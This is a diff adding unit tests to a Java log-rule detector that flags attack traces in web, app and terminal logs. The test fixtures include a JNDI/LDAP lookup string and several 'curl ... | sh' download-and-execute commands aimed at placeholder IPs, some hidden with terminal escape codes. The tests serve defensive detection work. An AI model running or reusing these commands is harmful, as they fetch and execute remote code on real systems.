@@ -90,6 +90,26 @@ class LogRulesTest {
                 .containsExactly("CMD-003 medium");
     }
 
+    /** Whoever sends these words has not had them come true. */
+    @Test
+    void takesWordsOfALibraryInARequestForAnAttempt() {
+        line("web", 1, "\"GET / HTTP/1.1\" 200 12 \"-\" \"Error looking up JNDI resource [ldap://203.0.113.7/a]\"");
+        line("app", 1, "WARN Error looking up JNDI resource [ldap://203.0.113.7/a].");
+        assertThat(rules.findings().findings())
+                .extracting(f ->
+                        f.subject() + " " + f.rule().id() + " " + f.severity().word())
+                .containsExactly("web LOG-002 medium", "app LOG-002 high");
+    }
+
+    /** A shell that shows what it runs was not asked to by these words, and ran it. */
+    @Test
+    void takesNoTracedCommandForARequest() {
+        line("app", 1, "+ curl -H 'X-Via: HTTP/1.1' -s http://203.0.113.9/a | sh");
+        assertThat(rules.findings().findings())
+                .extracting(f -> f.rule().id() + " " + f.severity().word())
+                .containsExactly("CMD-001 high");
+    }
+
     /** No words of a request: the same shell in an entry of another kind, and a miner's own line. */
     @ParameterizedTest
     @ValueSource(
@@ -111,6 +131,7 @@ class LogRulesTest {
             strings = {
                 "# curk\b\u001b[Kl -s http://203.0.113.9/x | sh",
                 "# curk\b \bl -s http://203.0.113.9/x | sh",
+                "\u001b[?2004h# curk\b\u001b[Kl -s http://203.0.113.9/x | sh\u001b[?2004l\r",
                 "# url -s http://203.0.113.9/x | sh"
                         + "\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b" + "\u001b[1@c"
             })
@@ -122,6 +143,23 @@ class LogRulesTest {
                 recorded,
                 at("data/raw/aws.ecs.exec-session.1/a/000001.body.json", "/events/0/message")));
         assertThat(rules.findings().findings()).extracting(f -> f.rule().id()).containsExactly("CMD-001");
+    }
+
+    /** The worse of both counts, and a reader of the recording is told why it reads otherwise. */
+    @Test
+    void saysWhatAloneTheTerminalShowed() {
+        rules.accept(new LogLine(
+                "exec session 1",
+                "1",
+                Optional.of(Instant.EPOCH),
+                "# curk\b\u001b[Kl -s http://203.0.113.9/x | sh; curl -s https://get.docker.com | sh",
+                at("data/raw/aws.ecs.exec-session.1/a/000001.body.json", "/events/0/message")));
+        assertThat(rules.findings().findings()).singleElement().satisfies(finding -> {
+            assertThat(finding.rule().id() + " " + finding.severity().word()).isEqualTo("CMD-001 high");
+            assertThat(finding.because())
+                    .startsWith("log: curl -s http://203.0.113.9/x | sh")
+                    .contains("; as the terminal came to show it");
+        });
     }
 
     /** Who writes over what was run hides it from a reader, not from a rule. */
